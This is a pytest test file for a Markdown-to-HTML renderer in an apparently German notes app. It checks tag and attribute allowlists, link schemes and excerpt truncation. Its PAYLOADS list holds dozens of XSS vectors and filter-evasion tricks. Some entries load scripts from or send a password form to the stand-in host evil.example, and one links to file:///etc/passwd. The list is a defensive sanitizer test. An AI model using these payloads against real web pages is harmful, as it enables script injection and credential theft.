"""Notes in Markdown: readable, and without any way to run a script."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from app.markdown import plain, render

ALLOWED = {
    "p": set(),
    "br": set(),
    "hr": set(),
    "strong": set(),
    "em": set(),
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "blockquote": set(),
    "code": set(),
    "pre": set(),
    "a": {"href", "title", "rel"},
}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Guter **Termin** mit *Fragen*", "<p>Guter <strong>Termin</strong> mit <em>Fragen</em></p>\n"),
        ("eins\nzwei", "<p>eins<br>\nzwei</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. drei\n4. vier", '<ol start="3">\n<li>drei</li>\n<li>vier</li>\n</ol>\n'),
        ("# Rundgang\nHalle 2", "<p><strong>Rundgang</strong></p>\n<p>Halle 2</p>\n"),
        ("> Zitat", "<blockquote>\n<p>Zitat</p>\n</blockquote>\n"),
        ("`OEE`", "<p><code>OEE</code></p>\n"),
        (
            "[Seite](https://example.org/a?b=1&c=2)",
            '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">Seite</a></p>\n',
        ),
        (
            "<mailto:kim@c01.example>",
            '<p><a href="mailto:kim@c01.example" rel="noopener noreferrer">mailto:kim@c01.example</a></p>\n',
        ),
        ("3 < 5 & 7 > 2", "<p>3 &lt; 5 &amp; 7 &gt; 2</p>\n"),
        ("![Bild](https://example.org/x.png)", None),
        ("", ""),
        (None, ""),
    ],
)
def test_markdown_becomes_html(text: str | None, expected: str | None) -> None:
    html = render(text)
    assert isinstance(html, Markup)
    if expected is None:
        assert "<img" not in html
    else:
        assert html == expected


class _Elements(HTMLParser):
    """Collects every element a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    """Only known elements with known attributes, and links only to the permitted schemes."""
    parser = _Elements()
    parser.feed(html)
    for tag, attributes in parser.found:
        assert tag in ALLOWED
        assert set(attributes) <= ALLOWED[tag]
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"] or "", re.IGNORECASE)
            assert attributes["rel"] == "noopener noreferrer"


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<p style='position:fixed'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/companies/1/archive)",
    "[x](?delete=1)",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://example.org/x.png" onerror="alert(1))',
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org/\"onmouseover='alert(1)')",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "{{ config }} {% for x in y %}",
    "[" * 200 + "x" + "](" * 200,
    ">" * 300 + "x",
    "\u202e<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_gets_through(payload: str) -> None:
    assert_harmless(render(payload))
    assert_harmless(render(f"Text\n\n{payload}\n\n**Ende**"))


@given(st.text(alphabet="<>[]()!\"'`#*_- \n\tajvscript:/&;=x0\\", max_size=120))
def test_no_text_gets_through(text: str) -> None:
    assert_harmless(render(text))


def test_a_script_is_shown_as_text() -> None:
    assert render("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"


@pytest.mark.parametrize(
    ("text", "limit", "expected"),
    [
        (
            "# Rundgang\n\n- **OEE** fehlt\n- [Plan](https://x.example) kommt",
            None,
            "Rundgang OEE fehlt Plan kommt",
        ),
        ("eins\nzwei  \ndrei", None, "eins zwei drei"),
        ("`code` und\n\n```\nBlock\n```", None, "code und Block"),
        ("Der Engpass ist die Presse", 26, "Der Engpass ist die Presse"),
        ("Der Engpass ist die Presse", 25, "Der Engpass ist die…"),
        ("Der Engpass ist die Presse", 12, "Der Engpass…"),
        ("Der Engpass, die Presse", 14, "Der Engpass…"),
        ("Donaudampfschifffahrt", 6, "Donau…"),
        ("a < b & c", None, "a < b & c"),
        ("", 10, ""),
        (None, 10, ""),
    ],
)
def test_plain_text_for_excerpts(text: str | None, limit: int | None, expected: str) -> None:
    assert plain(text, limit) == expected


@given(st.text(max_size=200), st.integers(2, 60))
def test_an_excerpt_never_exceeds_its_limit(text: str, limit: int) -> None:
    assert len(plain(text, limit)) <= limit
